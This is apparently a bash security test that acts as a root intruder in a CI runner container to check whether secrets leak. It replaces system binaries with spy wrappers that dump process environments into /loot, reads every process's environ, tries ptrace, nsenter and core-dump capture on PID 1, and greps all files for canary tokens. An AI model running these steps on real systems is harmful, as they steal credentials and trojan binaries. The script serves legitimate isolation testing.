# shellcheck shell=bash
# What root in a runner's container tries. It says what it gets; the test looks for secrets in that.
id -u | sed 's/^0$/the intruder is root/'

# A spy in place of each program that the supervisor or its children may start after the job.
mkdir /real
cat >/real/spy <<'SPY'
#!/bin/bash
{
  echo "spied on ${0##*/} $*"
  for process in $$ $PPID 1; do
    tr '\0' '\n' <"/proc/$process/environ"
    ls -l "/proc/$process/fd"
  done
} >"/loot/${0##*/}.$$" 2>&1
exec "/real/${0##*/}" "$@"
SPY
chmod 755 /real /real/spy
for program in /usr/bin/rsync /usr/bin/tar /usr/bin/zstd /usr/bin/docker /usr/local/bin/supervisor; do
  [ -e "$program" ] || continue
  mv "$program" /real/
  cp /real/spy "$program"
done
# Something loose to publish, for which rsync is started.
mkdir -p /home/runner/pip
echo new >/home/runner/pip/new
chown -R runner /home/runner/pip

# Everybody's environment and command line, as far as root without SYS_PTRACE sees them.
for process in /proc/[0-9]*; do
  tr '\0' '\n' <"$process/environ" 2>/dev/null | sed 's/^/environ: /'
  tr '\0' ' ' <"$process/cmdline" 2>/dev/null | sed 's/^/cmdline: /'
done
# The supervisor's own.
for file in environ auxv mem maps pagemap exe cwd/etc/passwd root/etc/passwd fd/0 fd/3 task/1/environ task/1/mem; do
  if (: <"/proc/1/$file") 2>/dev/null; then
    echo "PID 1 opens its $file"
  else
    echo "PID 1 keeps its $file"
  fi
done
# ptrace(PTRACE_ATTACH, 1): the call's number is each architecture's own.
case "$(uname -m)" in x86_64) number=101 ;; *) number=117 ;; esac
if perl -e "exit(syscall($number, 16, 1, 0, 0) == 0 ? 0 : 1)"; then
  echo "PID 1 opens itself to a tracer"
else
  echo "PID 1 cannot be traced"
fi
nsenter --target 1 --mount true 2>/dev/null && echo "PID 1 opens its namespaces"
# A core dump would be written by the kernel.
ulimit -c unlimited
echo '/loot/core' >/proc/sys/kernel/core_pattern 2>/dev/null && echo "PID 1 opens its core dumps"
kill -ABRT 1
# All files, the ones of other users included. The class keeps this line from finding itself.
find / -xdev -type f -size -2048k -exec grep -a -l -E 'ghp_a_tok[e]n|of-the-r[o]le' {} + 2>/dev/null |
  while read -r file; do
    echo "found in $file"
    grep -a -E 'ghp_a_tok[e]n|of-the-r[o]le' "$file"
  done
echo "the intruder has looked"
